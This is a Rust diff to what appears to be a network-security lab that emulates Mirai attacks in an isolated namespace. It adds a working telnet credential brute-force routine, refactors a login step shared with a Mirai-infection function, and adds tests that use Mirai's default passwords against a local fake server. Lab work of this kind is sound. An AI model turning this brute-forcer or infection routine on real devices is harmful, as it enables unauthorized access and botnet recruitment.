@@ -1,5 +1,6 @@
 //! Attacks the lab scripts itself because no packaged tool performs them: Mirai's loader
-//! dialogue after a telnet login, and unicast SSDP `M-SEARCH ssdp:all`. Each runs in a thread
+//! dialogue after a telnet login, Mirai's one-credential-per-connection telnet brute force,
+//! and unicast SSDP `M-SEARCH ssdp:all`. Each runs in a thread
 //! inside the attacker's namespace, bounded by the phase's time limit.
 
 use std::io::{Read, Write};
@@ -20,6 +21,15 @@ pub enum Scripted {
         rounds: u32,
         /// Milliseconds between rounds.
         interval_ms: u32,
+    },
+    /// [`telnet_brute`] of `target`.
+    TelnetBrute {
+        /// The telnet server.
+        target: Ipv4Addr,
+        /// Login and password pairs, tried in order.
+        credentials: Vec<(String, String)>,
+        /// Milliseconds between connections.
+        pause_ms: u32,
     },
     /// [`telnet_infect`] of `target`.
     TelnetInfect {
@@ -48,6 +58,14 @@ impl Scripted {
                     .collect::<Vec<_>>()
                     .join(" ")
             ),
+            Scripted::TelnetBrute {
+                target,
+                credentials,
+                pause_ms,
+            } => format!(
+                "(scripted) Mirai brute force: telnet {target}, one connection per pair, {} pairs, {pause_ms} ms apart",
+                credentials.len()
+            ),
             Scripted::TelnetInfect {
                 target, credential, ..
             } => format!(
@@ -73,6 +91,18 @@ impl Scripted {
                 Duration::from_millis(u64::from(*interval_ms)),
                 stop,
             )
+            .map_err(|e| e.to_string()),
+            Scripted::TelnetBrute {
+                target,
+                credentials,
+                pause_ms,
+            } => telnet_brute(
+                SocketAddr::from((*target, 23)),
+                credentials,
+                Duration::from_millis(u64::from(*pause_ms)),
+                stop,
+            )
+            .map(|_| ())
             .map_err(|e| e.to_string()),
             Scripted::TelnetInfect {
                 target,
@@ -133,6 +163,74 @@ fn read_until(
     Ok(String::from_utf8_lossy(&got).into_owned())
 }
 
+/// How one telnet login attempt ended.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum LoginOutcome {
+    /// A shell prompt came back.
+    Shell,
+    /// The login was refused (or no shell prompt came in time).
+    Refused,
+}
+
+/// Opens a telnet connection to `target` and tries `credential` on it: waits for the login
+/// prompt, sends the login, waits for the password prompt, sends the password and reads the
+/// answer. Returns the connection (for more commands) and the outcome.
+fn telnet_login(
+    target: SocketAddr,
+    credential: &(String, String),
+    stop: &AtomicBool,
+) -> std::io::Result<(TcpStream, LoginOutcome)> {
+    let wait = Duration::from_secs(3);
+    let mut s = TcpStream::connect_timeout(&target, wait)?;
+    s.set_read_timeout(Some(Duration::from_millis(100)))?;
+    s.set_nodelay(true)?;
+    read_until(&mut s, &["login: "], wait, stop)?;
+    s.write_all(format!("{}\r\n", credential.0).as_bytes())?;
+    read_until(&mut s, &["Password: "], wait, stop)?;
+    s.write_all(format!("{}\r\n", credential.1).as_bytes())?;
+    // A refusal may come only after the login's failure delay (BusyBox's is 3 s).
+    let answer = read_until(&mut s, &["# ", "incorrect\r\n"], 4 * wait, stop)?;
+    let outcome = if answer.trim_end().ends_with('#') {
+        LoginOutcome::Shell
+    } else {
+        LoginOutcome::Refused
+    };
+    Ok((s, outcome))
+}
+
+/// Mirai's scanner brute force against `target`'s telnet: each pair of `credentials` on a
+/// connection of its own, in order, `pause` between connections, until one logs in (that
+/// session is closed with `exit`: Mirai hands a working login to its loader), the list ends
+/// or `stop` is raised. Returns the number of connections made and whether one logged in.
+///
+/// # Errors
+/// Connection or socket errors.
+pub fn telnet_brute(
+    target: SocketAddr,
+    credentials: &[(String, String)],
+    pause: Duration,
+    stop: &AtomicBool,
+) -> std::io::Result<(usize, bool)> {
+    let mut tried = 0;
+    for credential in credentials {
+        if stop.load(Ordering::Relaxed) {
+            break;
+        }
+        let (mut s, outcome) = telnet_login(target, credential, stop)?;
+        tried += 1;
+        if outcome == LoginOutcome::Shell {
+            s.write_all(b"exit\r\n")?;
+            return Ok((tried, true));
+        }
+        drop(s);
+        let until = Instant::now() + pause;
+        while Instant::now() < until && !stop.load(Ordering::Relaxed) {
+            std::thread::sleep(Duration::from_millis(10).min(pause));
+        }
+    }
+    Ok((tried, false))
+}
+
 /// Logs in to `target`'s telnet with `credential`, then sends [`mirai_commands`], each after
 /// the shell's prompt.
 ///
@@ -145,15 +243,8 @@ pub fn telnet_infect(
     stop: &AtomicBool,
 ) -> std::io::Result<()> {
     let wait = Duration::from_secs(3);
-    let mut s = TcpStream::connect_timeout(&target, wait)?;
-    s.set_read_timeout(Some(Duration::from_millis(100)))?;
-    s.set_nodelay(true)?;
-    read_until(&mut s, &["login: "], wait, stop)?;
-    s.write_all(format!("{}\r\n", credential.0).as_bytes())?;
-    read_until(&mut s, &["Password: "], wait, stop)?;
-    s.write_all(format!("{}\r\n", credential.1).as_bytes())?;
-    let banner = read_until(&mut s, &["# ", "incorrect\r\n"], wait, stop)?;
-    if !banner.trim_end().ends_with('#') {
+    let (mut s, outcome) = telnet_login(target, credential, stop)?;
+    if outcome == LoginOutcome::Refused {
         return Err(std::io::Error::other("telnet login refused"));
     }
     for c in mirai_commands(loader) {
@@ -179,9 +270,12 @@ mod test {
         listener.set_nonblocking(true).unwrap();
         let addr = listener.local_addr().unwrap();
         let stop = Arc::new(AtomicBool::new(false));
-        let cred = ("root".to_owned(), "xc3511".to_owned());
+        let login = crate::devices::TelnetLogin {
+            credential: ("root".to_owned(), "xc3511".to_owned()),
+            fail_delay: Duration::from_millis(300),
+        };
         let s = Arc::clone(&stop);
-        let t = std::thread::spawn(move || crate::devices::serve_telnet(&listener, cred, &s));
+        let t = std::thread::spawn(move || crate::devices::serve_telnet(&listener, login, &s));
         (addr, stop, t)
     }
 
@@ -195,6 +289,36 @@ mod test {
         let bad = ("root".to_owned(), "wrong".to_owned());
         let e = telnet_infect(addr, &bad, loader, &never).unwrap_err();
         assert!(e.to_string().contains("refused"), "{e}");
+        stop.store(true, Ordering::Relaxed);
+        server.join().unwrap();
+    }
+
+    #[test]
+    fn the_brute_force_uses_one_connection_per_pair_and_stops_at_the_working_one() {
+        let (addr, stop, server) = fake_login();
+        let never = AtomicBool::new(false);
+        let pair = |u: &str, p: &str| (u.to_owned(), p.to_owned());
+        let creds = [
+            pair("admin", "admin"),
+            pair("root", "vizxv"),
+            pair("root", "xc3511"),
+            pair("root", "never-tried"),
+        ];
+        let pause = Duration::from_millis(5);
+        assert_eq!(
+            telnet_brute(addr, &creds, pause, &never).unwrap(),
+            (3, true)
+        );
+        assert_eq!(
+            telnet_brute(addr, &creds[..2], pause, &never).unwrap(),
+            (2, false)
+        );
+        // A raised stop flag ends it before the next connection.
+        let stopped = AtomicBool::new(true);
+        assert_eq!(
+            telnet_brute(addr, &creds, pause, &stopped).unwrap(),
+            (0, false)
+        );
         stop.store(true, Ordering::Relaxed);
         server.join().unwrap();
     }
